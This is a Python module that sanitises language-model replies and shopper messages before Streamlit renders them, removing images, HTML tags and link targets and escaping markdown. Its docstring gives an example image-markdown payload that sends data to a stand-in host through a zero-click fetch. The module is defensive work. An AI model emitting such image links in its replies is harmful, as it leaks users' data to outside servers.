"""Chat text as Streamlit may show it: markdown that cannot load, link or run anything.

Replies come from a language model and messages from shoppers, so neither is trusted markup. Streamlit
renders markdown: an image ``![x](https://host/leak.png?q=...)`` would make the shopper's browser fetch
that URL the moment the message is drawn (a zero-click data leak, OWASP LLM05 improper output handling),
a link can phish, ``$...$`` turns into LaTeX and ``:red[...]`` into styling. Grounding already cuts URLs
from replies; this is the second fence, at the renderer, for every text it draws (replies, history,
the shopper's own words).
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\([^)\n]*\)")
_LINK = re.compile(r"\[([^\]\n]*)\]\([^)\n]*\)")
_HTML_TAG = re.compile(r"<!--.*?-->|</?[a-zA-Z][a-zA-Z0-9-]*(?:\s[^<>]*)?/?>", re.S)
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:=])")


def plain_markdown(text: str) -> str:
    """``text`` with images and HTML tags removed, links reduced to their words, and every other markdown
    character escaped, so Streamlit shows exactly the words and nothing else."""
    text = _HTML_TAG.sub("", text)
    text = _IMAGE.sub(lambda m: m.group(1), text)
    text = _LINK.sub(lambda m: m.group(1), text)
    return _MARKDOWN_SPECIAL.sub(r"\\\1", text)
